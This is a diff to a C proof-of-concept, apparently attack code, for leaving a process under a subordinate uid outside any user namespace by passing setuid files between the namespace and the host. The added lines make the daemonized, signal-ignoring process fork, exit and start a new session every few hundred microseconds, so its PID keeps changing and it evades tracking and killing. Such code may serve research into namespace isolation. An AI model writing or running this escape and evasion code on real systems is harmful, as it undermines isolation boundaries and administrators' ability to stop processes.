@@ -1,5 +1,6 @@
 /* Leaves a process wholly under a subordinate uid, outside of any user namespace and session: root of a user namespace makes
-   a setuid file there, which the user runs outside. Another setuid file, of the user's own, is the way back. */
+   a setuid file there, which the user runs outside. Another setuid file, of the user's own, is the way back. If there is a file
+   /tmp/hop, the process is another one every few hundred microseconds. */
 #include "attack.h"
 
 static void copy_self(const char *path, mode_t mode) {
@@ -18,6 +19,16 @@ static void outside(void) {
     if (setresuid(uid, uid, uid) != 0) _exit(20);
     daemonize();
     be_deaf();
+    if (access("/tmp/hop", F_OK) == 0) {
+        struct rlimit few = {60, 60};
+        if (setrlimit(RLIMIT_NPROC, &few) != 0) _exit(21);
+        for (unsigned long hops = 1;; hops++) {
+            if (hops % 200 == 1) prove("hops", hops);
+            usleep(300);
+            if (fork() > 0) _exit(0);
+            setsid();
+        }
+    }
     for (unsigned long beats = 1;; beats++) {
         prove("beats", beats);
         if (access("/tmp/come-back", F_OK) == 0) execl("/tmp/way_back", "way_back", "back", NULL);
